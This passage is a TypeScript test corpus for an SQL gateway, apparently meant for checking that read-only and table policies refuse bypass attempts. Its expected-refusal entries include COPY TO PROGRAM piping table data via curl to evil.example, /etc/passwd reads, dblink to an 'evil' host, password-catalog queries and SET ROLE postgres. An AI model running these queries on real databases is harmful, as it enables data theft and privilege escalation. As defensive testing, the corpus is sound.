/**
 * The bypass corpus: plain data, replayable by any evaluator. Each entry is one query string (it
 * may hold several statements), the policy it runs under, and the exact outcome: for a string with
 * several statements, the first refused statement decides; when none is refused, the most severe
 * allow event does (masked over query).
 */

export type CorpusPolicyName = 'readonly_orders' | 'readonly_catalog' | 'readonly_none' | 'readwrite_orders';

export interface CorpusPolicy {
  readonly read_only: boolean;
  readonly allowed_tables: readonly string[];
  readonly masked_columns: Readonly<Record<string, 'redact' | 'hash' | 'partial' | 'null'>>;
  readonly allow_catalog: boolean;
  readonly canaries: readonly { readonly honeytoken_id: string; readonly kind: 'table' | 'column' | 'value'; readonly target: string }[];
}

export interface CorpusEntry {
  readonly family: string;
  readonly sql: string;
  readonly policy: CorpusPolicyName;
  readonly searchPath?: readonly string[];
  readonly expect: CorpusOutcome;
  /**
   * The outcome when the gateway knows the upstream catalog (`corpusColumns`), where it differs: a
   * `*`, NATURAL JOIN or column alias list over a masked table is written out and masked.
   */
  readonly withCatalog?: CorpusOutcome;
}

export interface CorpusOutcome {
  readonly action: 'allow' | 'refuse';
  readonly rule: string;
  readonly event?: string;
}

/** The corpus tables' columns in attribute order, as the upstream catalog lists them (test/security/corpus-proxy.e2e.test.ts creates them). */
export const corpusColumns: Readonly<Record<string, readonly string[]>> = {
  'public.customers': ['id', 'name', 'email', 'phone', 'ssn', 'birth_date', 'region', 'text'],
  'public.orders': ['id', 'customer_id', 'total', 'discount', 'status', 'paid', 'note', 'contact', 'customer_email', 'data', 'metadata', 'created_at'],
  'public.products': ['id', 'name', 'category', 'brand', 'price', 'tags', 'parent_id'],
  'public.order_items': ['id', 'order_id', 'product_id', 'quantity', 'price'],
  'public.accounts': ['id', 'email', 'recovery_code'],
  'public.api_keys': ['id', 'secret'],
  'public.secrets': ['id', 'oid', 'secret'],
  'analytics.daily_revenue': ['id', 'day', 'revenue'],
  'analytics.top_products': ['name'],
  'staging.import_2023': ['id'],
  'staging.deleted': ['id'],
  'staging.emails': ['email'],
  'staging.scratch': ['a'],
};

const masked = {
  'public.customers.email': 'hash',
  'public.customers.phone': 'partial',
  'public.customers.ssn': 'redact',
  'public.customers.birth_date': 'null',
} as const;

const canaries = [
  { honeytoken_id: 'hnt_corpustable00000000000000', kind: 'table', target: 'public.api_keys' },
  { honeytoken_id: 'hnt_corpuscolumn0000000000000', kind: 'column', target: 'public.accounts.recovery_code' },
  { honeytoken_id: 'hnt_corpusvalue00000000000000', kind: 'value', target: 'canary-4411@example.com' },
] as const;

export const corpusPolicies: Readonly<Record<CorpusPolicyName, CorpusPolicy>> = {
  readonly_orders: {
    read_only: true,
    allowed_tables: ['public.orders', 'public.order_items', 'public.products', 'public.customers', 'public.accounts', 'analytics.*'],
    masked_columns: masked,
    allow_catalog: false,
    canaries,
  },
  readonly_catalog: { read_only: true, allowed_tables: ['public.orders'], masked_columns: {}, allow_catalog: true, canaries: [] },
  readonly_none: { read_only: true, allowed_tables: [], masked_columns: {}, allow_catalog: false, canaries: [] },
  readwrite_orders: {
    read_only: false,
    allowed_tables: ['public.orders', 'public.order_items', 'public.customers', 'staging.*'],
    masked_columns: { 'public.customers.email': 'hash' },
    allow_catalog: false,
    canaries,
  },
};

const ro = 'readonly_orders' as const;
const rw = 'readwrite_orders' as const;
const allow = { action: 'allow', rule: '' } as const;
const masks = { action: 'allow', rule: 'masked_columns.masked', event: 'masked' } as const;
const refuse = (rule: string) => ({ action: 'refuse', rule }) as const;

const write = refuse('read_only.write');
const ddl = refuse('read_only.ddl');
const fn = refuse('read_only.function');
const setting = refuse('read_only.setting');
const notAllowed = refuse('allowed_tables.not_allowed');
const catalog = refuse('allowed_tables.catalog');
const wholeRow = refuse('masked_columns.whole_row');

export const corpus: readonly CorpusEntry[] = [
  // Writes in every spelling.
  { family: 'write', policy: ro, sql: "INSERT INTO orders (id, total) VALUES (1, 10)", expect: write },
  { family: 'write', policy: ro, sql: 'UPDATE orders SET total = 0', expect: write },
  { family: 'write', policy: ro, sql: 'DELETE FROM orders', expect: write },
  { family: 'write', policy: ro, sql: 'delete from ORDERS where id = 1', expect: write },
  { family: 'write', policy: ro, sql: 'MERGE INTO orders o USING order_items i ON o.id = i.order_id WHEN MATCHED THEN DELETE', expect: write },
  { family: 'write', policy: ro, sql: 'TRUNCATE orders', expect: write },
  { family: 'write', policy: ro, sql: 'TRUNCATE TABLE orders, order_items RESTART IDENTITY CASCADE', expect: write },
  { family: 'write', policy: ro, sql: '/* just a read */ UPDATE orders SET total = total * 2 WHERE id IN (SELECT id FROM orders)', expect: write },
  { family: 'write', policy: ro, sql: 'INSERT INTO orders SELECT * FROM orders', expect: write },
  { family: 'write', policy: ro, sql: 'INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = excluded.total', expect: write },
  { family: 'write', policy: ro, sql: 'UPDATE orders o SET total = i.price FROM order_items i WHERE i.order_id = o.id RETURNING o.id', expect: write },
  { family: 'write', policy: ro, sql: 'DELETE FROM orders USING order_items WHERE order_items.order_id = orders.id', expect: write },
  { family: 'write', policy: ro, sql: '\tDeLeTe\nFROM\n"orders"', expect: write },
  { family: 'write', policy: ro, sql: 'COPY orders FROM STDIN', expect: write },
  { family: 'write', policy: ro, sql: 'COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', expect: write },

  // Data-modifying WITH at any depth.
  { family: 'writable_cte', policy: ro, sql: 'WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT 1', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'WITH i AS (INSERT INTO orders (id) VALUES (7) RETURNING id) SELECT * FROM i', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) s', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1 FROM d)', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'WITH a AS (SELECT 1), b AS (WITH c AS (UPDATE orders SET total = 1 RETURNING id) SELECT id FROM c) SELECT * FROM b', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'SELECT (SELECT id FROM (WITH x AS (DELETE FROM order_items RETURNING id) SELECT id FROM x) y LIMIT 1)', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), d AS (DELETE FROM orders RETURNING id) SELECT n FROM r', expect: write },
  { family: 'writable_cte', policy: ro, sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d', expect: write },

  // SELECT INTO and CREATE TABLE AS.
  { family: 'select_into', policy: ro, sql: 'SELECT * INTO stolen FROM orders', expect: write },
  { family: 'select_into', policy: ro, sql: 'SELECT id INTO TEMP t FROM orders', expect: write },
  { family: 'select_into', policy: ro, sql: 'SELECT id INTO UNLOGGED t2 FROM orders', expect: write },
  { family: 'select_into', policy: ro, sql: 'CREATE TABLE copy AS SELECT * FROM orders', expect: ddl },
  { family: 'select_into', policy: ro, sql: 'CREATE MATERIALIZED VIEW mv AS SELECT id FROM orders', expect: ddl },

  // COPY: STDOUT is a read; files and programs never.
  { family: 'copy', policy: ro, sql: 'COPY orders TO STDOUT', expect: allow },
  { family: 'copy', policy: ro, sql: 'COPY (SELECT id, total FROM orders) TO STDOUT WITH (FORMAT csv, HEADER)', expect: allow },
  { family: 'copy', policy: ro, sql: "COPY orders TO '/tmp/orders.csv'", expect: refuse('read_only.copy') },
  { family: 'copy', policy: ro, sql: "COPY orders TO PROGRAM 'curl -d @- https://evil.example'", expect: refuse('read_only.copy') },
  { family: 'copy', policy: ro, sql: "COPY orders FROM '/etc/passwd'", expect: refuse('read_only.copy') },
  { family: 'copy', policy: ro, sql: "COPY (SELECT 1) TO PROGRAM 'id'", expect: refuse('read_only.copy') },
  { family: 'copy', policy: rw, sql: "COPY orders FROM PROGRAM 'cat /etc/passwd'", expect: refuse('statement.copy') },
  { family: 'copy', policy: rw, sql: "COPY orders TO '/tmp/x'", expect: refuse('statement.copy') },
  { family: 'copy', policy: ro, sql: 'COPY customers TO STDOUT', expect: wholeRow },
  { family: 'copy', policy: ro, sql: 'COPY customers (id, email) TO STDOUT', expect: refuse('masked_columns.unmaskable') },
  { family: 'copy', policy: ro, sql: 'COPY (SELECT id, email FROM customers) TO STDOUT', expect: masks },
  { family: 'copy', policy: ro, sql: 'COPY secrets TO STDOUT', expect: notAllowed },

  // EXPLAIN: planning is a read, ANALYZE executes.
  { family: 'explain', policy: ro, sql: 'EXPLAIN SELECT * FROM orders', expect: allow },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (FORMAT json, COSTS off) SELECT id FROM orders WHERE total > 10', expect: allow },
  { family: 'explain', policy: ro, sql: 'EXPLAIN ANALYZE SELECT count(*) FROM orders', expect: allow },
  { family: 'explain', policy: ro, sql: 'EXPLAIN ANALYZE DELETE FROM orders', expect: write },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0', expect: write },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (ANALYZE true) INSERT INTO orders (id) VALUES (1)', expect: write },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (ANALYZE on) DELETE FROM orders', expect: write },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (ANALYZE 1) DELETE FROM orders', expect: write },
  { family: 'explain', policy: ro, sql: 'EXPLAIN (ANALYZE false) DELETE FROM orders', expect: allow },
  { family: 'explain', policy: ro, sql: 'EXPLAIN DELETE FROM orders', expect: allow },
  { family: 'explain', policy: ro, sql: 'EXPLAIN ANALYZE SELECT * FROM secrets', expect: notAllowed },
  { family: 'explain', policy: ro, sql: 'EXPLAIN ANALYZE SELECT pg_sleep(5)', expect: fn },
  { family: 'explain', policy: ro, sql: 'EXPLAIN ANALYZE EXECUTE p', expect: refuse('read_only.prepare') },

  // Row and table locks.
  { family: 'locking', policy: ro, sql: 'SELECT * FROM orders FOR UPDATE', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'SELECT id FROM orders FOR SHARE SKIP LOCKED', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'SELECT id FROM orders FOR NO KEY UPDATE NOWAIT', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'SELECT id FROM orders o FOR KEY SHARE OF o', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'SELECT * FROM (SELECT id FROM orders FOR UPDATE) s', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', expect: refuse('read_only.lock') },
  { family: 'locking', policy: ro, sql: 'LOCK orders', expect: refuse('read_only.lock') },

  // Procedures and anonymous code.
  { family: 'procedural', policy: ro, sql: 'CALL refresh_everything()', expect: refuse('read_only.procedure') },
  { family: 'procedural', policy: ro, sql: "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", expect: refuse('read_only.procedure') },
  { family: 'procedural', policy: ro, sql: "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", expect: refuse('read_only.procedure') },
  { family: 'procedural', policy: rw, sql: "DO $$ BEGIN DELETE FROM orders; END $$", expect: refuse('statement.procedure') },
  { family: 'procedural', policy: rw, sql: 'CALL archive_orders(30)', expect: refuse('statement.procedure') },

  // LISTEN / NOTIFY.
  { family: 'listen_notify', policy: ro, sql: 'LISTEN orders_changed', expect: refuse('read_only.notify') },
  { family: 'listen_notify', policy: ro, sql: "NOTIFY orders_changed, 'payload'", expect: refuse('read_only.notify') },
  { family: 'listen_notify', policy: ro, sql: 'UNLISTEN *', expect: refuse('read_only.notify') },
  { family: 'listen_notify', policy: ro, sql: "SELECT pg_notify('orders_changed', 'x')", expect: fn },
  { family: 'listen_notify', policy: rw, sql: 'LISTEN x', expect: refuse('statement.notify') },

  // SQL-level prepared statements.
  { family: 'prepare', policy: ro, sql: 'PREPARE p AS DELETE FROM orders', expect: write },
  { family: 'prepare', policy: ro, sql: 'PREPARE p (int) AS UPDATE orders SET total = $1', expect: write },
  { family: 'prepare', policy: ro, sql: 'PREPARE p AS SELECT id FROM orders', expect: refuse('read_only.prepare') },
  { family: 'prepare', policy: ro, sql: 'EXECUTE p', expect: refuse('read_only.prepare') },
  { family: 'prepare', policy: ro, sql: 'EXECUTE p(1, 2)', expect: refuse('read_only.prepare') },
  { family: 'prepare', policy: ro, sql: 'DEALLOCATE ALL', expect: refuse('read_only.prepare') },
  { family: 'prepare', policy: ro, sql: 'PREPARE p AS SELECT 1; EXECUTE p', expect: refuse('read_only.prepare') },
  { family: 'prepare', policy: rw, sql: 'PREPARE p AS SELECT id FROM orders', expect: refuse('statement.prepare') },

  // Session settings and set_config.
  { family: 'settings', policy: ro, sql: 'SET ROLE postgres', expect: setting },
  { family: 'settings', policy: ro, sql: 'SET LOCAL ROLE admin', expect: setting },
  { family: 'settings', policy: ro, sql: 'RESET ROLE', expect: setting },
  { family: 'settings', policy: ro, sql: 'SET SESSION AUTHORIZATION postgres', expect: setting },
  { family: 'settings', policy: ro, sql: 'RESET SESSION AUTHORIZATION', expect: setting },
  { family: 'settings', policy: ro, sql: 'SET search_path = evil, public', expect: setting },
  { family: 'settings', policy: ro, sql: "SET search_path TO 'pg_temp'", expect: setting },
  { family: 'settings', policy: ro, sql: 'SET default_transaction_read_only = off', expect: setting },
  { family: 'settings', policy: ro, sql: 'SET transaction_read_only = off', expect: setting },
  { family: 'settings', policy: ro, sql: 'SET standard_conforming_strings = off', expect: setting },
  { family: 'settings', policy: ro, sql: "SET client_encoding = 'SJIS'", expect: setting },
  { family: 'settings', policy: ro, sql: "SET NAMES 'GBK'", expect: setting },
  { family: 'settings', policy: ro, sql: 'SET app.tenant_id = 42', expect: setting },
  { family: 'settings', policy: ro, sql: 'RESET ALL', expect: setting },
  { family: 'settings', policy: ro, sql: 'DISCARD ALL', expect: setting },
  { family: 'settings', policy: ro, sql: 'SHOW ALL', expect: setting },
  { family: 'settings', policy: ro, sql: 'SHOW app.jwt_secret', expect: setting },
  { family: 'settings', policy: ro, sql: "SELECT set_config('role', 'postgres', false)", expect: setting },
  { family: 'settings', policy: ro, sql: "SELECT set_config('search_path', 'evil', true)", expect: setting },
  { family: 'settings', policy: ro, sql: "SELECT pg_catalog.set_config('transaction_read_only', 'off', true)", expect: setting },
  { family: 'settings', policy: ro, sql: "SELECT set_config(name, 'x', false) FROM orders", expect: setting },
  { family: 'settings', policy: ro, sql: "SELECT current_setting('app.jwt_secret')", expect: fn },
  { family: 'settings', policy: rw, sql: 'SET ROLE postgres', expect: refuse('statement.setting') },
  { family: 'settings', policy: ro, sql: "SET statement_timeout = '5s'", expect: allow },
  { family: 'settings', policy: ro, sql: "SET application_name = 'reporting'", expect: allow },
  { family: 'settings', policy: ro, sql: "SET TIME ZONE 'UTC'", expect: allow },
  { family: 'settings', policy: ro, sql: "SELECT set_config('application_name', 'agent', false)", expect: allow },
  { family: 'settings', policy: ro, sql: 'SHOW transaction_isolation', expect: allow },
  { family: 'settings', policy: ro, sql: 'RESET statement_timeout', expect: allow },

  // Transaction control: fine unless it relaxes read-only mode.
  { family: 'transaction', policy: ro, sql: 'BEGIN', expect: allow },
  { family: 'transaction', policy: ro, sql: 'BEGIN; SELECT id FROM orders; COMMIT', expect: allow },
  { family: 'transaction', policy: ro, sql: 'START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY', expect: allow },
  { family: 'transaction', policy: ro, sql: 'SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1; RELEASE s1', expect: allow },
  { family: 'transaction', policy: ro, sql: 'BEGIN READ WRITE', expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: ro, sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: ro, sql: 'SET TRANSACTION READ WRITE', expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: ro, sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: ro, sql: 'COMMIT; BEGIN READ WRITE; DELETE FROM orders', expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: ro, sql: "PREPARE TRANSACTION 'x'", expect: refuse('read_only.transaction') },
  { family: 'transaction', policy: rw, sql: "COMMIT PREPARED 'x'", expect: refuse('statement.transaction') },

  // Functions outside the vetted list.
  { family: 'functions', policy: ro, sql: "SELECT lo_import('/etc/passwd')", expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT lo_export(16400, \'/tmp/x\')', expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT dblink_exec('dbname=prod', 'DROP TABLE orders')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT pg_read_file('/etc/passwd')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT pg_read_binary_file('postgresql.conf')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT * FROM pg_ls_dir('.')", expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT pg_terminate_backend(pid) FROM orders', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT pg_cancel_backend(1)', expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT nextval('orders_id_seq')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT setval('orders_id_seq', 1)", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT query_to_xml('delete from orders returning *', true, true, '')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT table_to_xml('secrets', true, true, '')", expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT pg_sleep(60)', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT pg_advisory_lock(1)', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT txid_current()', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT pg_reload_conf()', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT public.lower(note) FROM orders', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT my_audit_fn(id) FROM orders', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT id FROM orders WHERE id = (SELECT pg_sleep(1))::text::int', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT id FROM orders ORDER BY pg_stat_reset()', expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT 1 OPERATOR(public.+) 2', expect: fn },
  // Forwarded as pg_catalog.lower(note): no schema on the path can stand in for it.
  { family: 'functions', policy: ro, sql: 'SELECT lower(note) FROM orders', searchPath: ['public', 'pg_catalog'], expect: allow },
  { family: 'functions', policy: ro, sql: 'SELECT pg_catalog.lower(note) FROM orders', searchPath: ['public', 'pg_catalog'], expect: allow },

  // Database-defined overloads and other schemas' functions (issue 16, class 1).
  { family: 'functions', policy: ro, sql: 'SELECT public.md5(1)', expect: fn },
  { family: 'functions', policy: rw, sql: 'SELECT public.lower(7)', expect: refuse('function.not_allowed') },
  { family: 'functions', policy: ro, sql: "SELECT current_setting('app.secret')", expect: fn },
  { family: 'functions', policy: ro, sql: 'SELECT current_setting(note) FROM orders', expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT to_tsvector('private.cfg', 'a')", expect: fn },
  { family: 'functions', policy: ro, sql: "SELECT * FROM jsonb_populate_record(null::secrets, '{}')", expect: notAllowed },
  { family: 'functions', policy: ro, sql: "SELECT 'x'::public.evil_domain", expect: notAllowed },

  // Catalog names through reg* types (issue 16, class 6).
  { family: 'catalogs', policy: ro, sql: "SELECT 'public.secrets'::regclass::oid", expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT 'private.nonexistent'::regclass", expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT g::oid::regclass FROM generate_series(1, 100000) g', expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT CAST('public.secrets' AS pg_catalog.regclass)", expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT regclass 'public.secrets'", expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT '{public.secrets}'::regclass[]", expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT to_regclass('public.secrets')", expect: catalog },
  { family: 'catalogs', policy: ro, sql: "SELECT 'private'::regnamespace, 'postgres'::regrole, 'md5'::regproc", expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT tableoid::regclass FROM orders', expect: catalog },

  // System catalogs.
  { family: 'catalogs', policy: ro, sql: 'SELECT rolname, rolpassword FROM pg_catalog.pg_authid', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT * FROM pg_authid', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT usename, passwd FROM pg_shadow', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT table_name FROM information_schema.tables', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT relname FROM pg_class', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT query FROM pg_stat_activity', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT * FROM "pg_catalog"."pg_user"', expect: catalog },
  { family: 'catalogs', policy: ro, sql: 'SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM pg_roles WHERE rolsuper)', expect: catalog },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT relname FROM pg_class', expect: allow },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT column_name FROM information_schema.columns WHERE table_name = \'orders\'', expect: allow },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT rolpassword FROM pg_authid', expect: catalog },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT most_common_vals FROM pg_stats', expect: catalog },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT setting FROM pg_settings', expect: catalog },
  { family: 'catalogs', policy: 'readonly_catalog', sql: 'SELECT * FROM pg_toast.pg_toast_1234', expect: catalog },

  // Schema qualification and search_path tricks.
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM public.orders', expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM "public"."orders"', expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM "PUBLIC"."Orders"', expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM public."Orders"', expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM evil.orders', expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM orders', searchPath: ['evil', 'public'], expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM orders', searchPath: ['$user', 'public'], expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM orders', searchPath: ['analytics', 'public'], expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM orders', searchPath: [], expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM pg_temp.orders', expect: refuse('allowed_tables.temp') },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM pg_temp_3.orders', expect: refuse('allowed_tables.temp') },
  { family: 'search_path', policy: ro, sql: 'SELECT * FROM prod.public.orders', expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT id FROM analytics.daily_revenue', expect: allow },
  { family: 'search_path', policy: ro, sql: 'SELECT pg_class.relname FROM orders, pg_class', expect: catalog },
  { family: 'search_path', policy: ro, sql: 'SELECT * FROM pg_class', searchPath: ['public', 'pg_catalog'], expect: notAllowed },
  { family: 'search_path', policy: ro, sql: 'SELECT * FROM orders_archive', expect: notAllowed },

  // Lexer corners: quoting, escapes, dollar quotes, comments.
  { family: 'lexer', policy: ro, sql: 'SELECT U&"d\\0061ta" FROM orders', expect: allow },
  { family: 'lexer', policy: ro, sql: 'SELECT * FROM U&"\\0073ecrets"', expect: notAllowed },
  { family: 'lexer', policy: ro, sql: 'SELECT * FROM U&"!0073ecrets" UESCAPE \'!\'', expect: notAllowed },
  { family: 'lexer', policy: ro, sql: 'DELETE FROM U&"\\006frders"', expect: write },
  { family: 'lexer', policy: ro, sql: "SELECT $$; DELETE FROM orders; $$ FROM orders", expect: allow },
  { family: 'lexer', policy: ro, sql: "SELECT $tag$ ' $$ \" $tag$; DELETE FROM orders", expect: write },
  { family: 'lexer', policy: ro, sql: "SELECT E'\\'; DELETE FROM orders; --' FROM orders", expect: allow },
  { family: 'lexer', policy: ro, sql: "SELECT 'it''s'; UPDATE orders SET total = 0", expect: write },
  { family: 'lexer', policy: ro, sql: "SELECT 'a\\'; DELETE FROM orders; --'", expect: write },
  { family: 'lexer', policy: ro, sql: "SELECT 'x\\'\n'; DELETE FROM orders; --'", expect: allow },
  { family: 'lexer', policy: ro, sql: 'SELECT 1 /* ; DELETE FROM orders; */', expect: allow },
  { family: 'lexer', policy: ro, sql: 'SELECT 1 /* nested /* comment */ ; DELETE FROM orders; */', expect: allow },
  { family: 'lexer', policy: ro, sql: 'SELECT 1 -- ; DELETE FROM orders\n; DELETE FROM orders', expect: write },
  { family: 'lexer', policy: ro, sql: 'DEL/**/ETE FROM orders', expect: refuse('parse.error') },
  { family: 'lexer', policy: ro, sql: 'SELECT/**/id/**/FROM/**/orders', expect: allow },
  { family: 'lexer', policy: ro, sql: 'UPDATE/* hi */orders/**/SET total=0', expect: write },
  { family: 'lexer', policy: ro, sql: 'SELECT "id" FROM "orders" WHERE "total" > 1', expect: allow },
  { family: 'lexer', policy: ro, sql: 'SELECT id FROM orders WHERE note = U&\'\\0027; DROP TABLE orders; --\'', expect: allow },
  { family: 'lexer', policy: ro, sql: "SELECT id FROM orders WHERE note = B'1010'::text", expect: allow },

  // Several statements in one string: decided one by one.
  { family: 'multi_statement', policy: ro, sql: 'SELECT 1; DELETE FROM orders', expect: write },
  { family: 'multi_statement', policy: ro, sql: 'SELECT 1;DELETE FROM orders;', expect: write },
  { family: 'multi_statement', policy: ro, sql: 'SELECT id FROM orders; SELECT id FROM products', expect: allow },
  { family: 'multi_statement', policy: ro, sql: 'COMMIT; DROP TABLE orders', expect: ddl },
  { family: 'multi_statement', policy: ro, sql: 'ROLLBACK; SET ROLE postgres; SELECT 1', expect: setting },
  { family: 'multi_statement', policy: ro, sql: 'SELECT 1; SELECT * FROM secrets', expect: notAllowed },
  { family: 'multi_statement', policy: ro, sql: ';;; SELECT 1;;', expect: allow },
  { family: 'multi_statement', policy: ro, sql: 'SELECT id FROM orders; SELECT email FROM customers', expect: masks },
  { family: 'multi_statement', policy: ro, sql: 'END; CREATE TABLE x (a int)', expect: ddl },

  // Allowed tables everywhere a relation can hide.
  { family: 'allowed_tables', policy: ro, sql: 'SELECT * FROM secrets', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT o.id FROM orders o JOIN secrets s ON s.id = o.id', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders WHERE id IN (SELECT id FROM secrets)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM secrets WHERE secrets.id = orders.id)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'WITH s AS (SELECT * FROM secrets) SELECT * FROM s', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders UNION SELECT id FROM secrets', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders EXCEPT (SELECT id FROM secrets ORDER BY 1)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT * FROM orders o, LATERAL (SELECT * FROM secrets WHERE secrets.oid = o.id) x', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT (SELECT max(id) FROM secrets) FROM orders', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders ORDER BY (SELECT count(*) FROM secrets)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM orders GROUP BY id HAVING count(*) > (SELECT count(*) FROM secrets)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT ARRAY(SELECT id FROM secrets)', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT id FROM ONLY secrets', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'TABLE secrets', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT * FROM orders JOIN (secrets JOIN products ON true) ON true', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'WITH orders AS (SELECT * FROM secrets) SELECT * FROM orders', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'WITH secrets AS (SELECT id FROM orders) SELECT * FROM secrets', expect: allow },
  { family: 'allowed_tables', policy: ro, sql: 'WITH x AS (SELECT 1) SELECT * FROM public.x', expect: notAllowed },
  { family: 'allowed_tables', policy: ro, sql: 'SELECT * FROM (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets) a, secrets', expect: notAllowed },
  { family: 'allowed_tables', policy: 'readonly_none', sql: 'SELECT id FROM orders', expect: notAllowed },
  { family: 'allowed_tables', policy: 'readonly_none', sql: 'SELECT 1 + 1', expect: allow },

  // Masked columns: rewritten in every clause, whole rows refused.
  { family: 'masked_columns', policy: ro, sql: 'SELECT email FROM customers', expect: masks },
